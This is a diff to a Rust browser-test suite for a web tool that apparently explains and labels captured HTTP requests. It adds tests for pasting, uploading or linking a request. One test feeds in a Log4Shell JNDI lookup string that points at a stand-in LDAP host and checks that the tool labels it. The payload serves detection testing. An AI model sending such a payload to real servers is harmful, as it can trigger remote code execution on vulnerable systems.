@@ -146,6 +146,14 @@ async fn visit(
         );
     }
     for (seq, (name, payload)) in requests.iter().filter(|(seq, _)| seq % 2 == 0) {
+        let link = "return document.querySelector('a[href^=\"/home/explain?b64\"]')?.href ?? null";
+        browser
+            .open(&format!("{origin}home/requests/{seq}"))
+            .await?;
+        if let Some(link) = browser.run(link).await?.as_str() {
+            browser.open(link).await.with_context(|| *name)?;
+            calm(browser, &origin, name).await?;
+        }
         let list = if seq % 8 == 0 { "home/labels" } else { "home" };
         // haproxy answers an address beyond its buffer with 400.
         let mut search = url::Url::parse(&format!("{origin}{list}"))?;
@@ -157,12 +165,19 @@ async fn visit(
         calm(browser, &origin, name).await?;
     }
     // Handed out, it lies on a disk.
-    let file = tempfile::Builder::new().suffix(".html").tempfile()?;
-    std::fs::write(file.path(), stack.get("/home/export.html").await?.body)?;
-    browser
-        .open(&format!("file://{}", file.path().display()))
-        .await?;
-    calm(browser, "file://", "export.html").await
+    let newest = requests.iter().map(|(seq, _)| *seq).max().unwrap_or(1);
+    for path in [
+        "/home/export.html".to_owned(),
+        format!("/home/requests/{newest}/html"),
+    ] {
+        let file = tempfile::Builder::new().suffix(".html").tempfile()?;
+        std::fs::write(file.path(), stack.get(&path).await?.body)?;
+        browser
+            .open(&format!("file://{}", file.path().display()))
+            .await?;
+        calm(browser, "file://", &path).await?;
+    }
+    Ok(())
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -218,6 +233,10 @@ async fn full_ring() -> anyhow::Result<(Stack, Vec<String>)> {
         "/home?method=GET&path=%2F",
         "/home?category=exploit&as=AS64496",
         "/home/labels",
+        "/home/explain",
+        "/home/explain?b64=!",
+        "/home/explain?b64=R0VUIC9hP2I9PGI-IEhUVFAvMS4xDQoNCg",
+        "/home/requests/1/html",
         "/home/requests/9999",
         "/home?source=x",
         "/home/export.html",
@@ -298,8 +317,7 @@ async fn every_page_suits_everyone() -> anyhow::Result<()> {
         let browser = Browser::start(visitor).await?;
         // Each of the pages of one request by one of them, all others by all.
         let is_meant = |(index, page): &(usize, &String)| {
-            *page != "/home/export.html"
-                && (index % 4 == turn || !page.starts_with("/home/requests/"))
+            !page.ends_with("html") && (index % 4 == turn || !page.starts_with("/home/requests/"))
         };
         for (_, page) in pages.iter().enumerate().filter(is_meant) {
             browser
@@ -705,5 +723,50 @@ async fn the_keyboard_does_it_all() -> anyhow::Result<()> {
         .await?;
     let log = browser.log().await?;
     assert!(log.is_empty(), "{log:?}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "needs Chromium: make test-browser"]
+async fn a_request_is_pasted_chosen_or_opened_by_a_link() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let browser = Browser::start(LAPTOP).await?;
+    let form = format!("http://{}/home/explain", stack.front());
+    let lines = "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\nHost: x\n\n";
+    let has_label = "document.querySelector('#labels ~ article')?.innerText.includes('Log4Shell')";
+    let press = || async {
+        browser
+            .client
+            .find(Locator::Css(".explain button"))
+            .await?
+            .click()
+            .await
+    };
+    browser.open(&form).await?;
+    let text = browser.client.find(Locator::Css("#request")).await?;
+    text.send_keys(lines).await?;
+    press().await?;
+    browser.until("it is explained", has_label).await?;
+    let ends = "document.querySelector('#raw + pre').textContent.includes('HTTP/1.1\\\\r\\\\n')";
+    browser
+        .until("with the line ends of a request", ends)
+        .await?;
+    browser
+        .client
+        .find(Locator::LinkText("Link that carries its bytes"))
+        .await?
+        .click()
+        .await?;
+    until_at(&browser, "b64=").await?;
+    browser.until("the link says the same", has_label).await?;
+    let file = tempfile::NamedTempFile::new()?;
+    std::fs::write(file.path(), lines)?;
+    browser.open(&form).await?;
+    let chosen = browser.client.find(Locator::Css("#file")).await?;
+    chosen.send_keys(&file.path().to_string_lossy()).await?;
+    press().await?;
+    browser.until("so is a file", has_label).await?;
+    let log = browser.log().await?;
+    ensure!(log.is_empty(), "{log:?}");
     Ok(())
 }
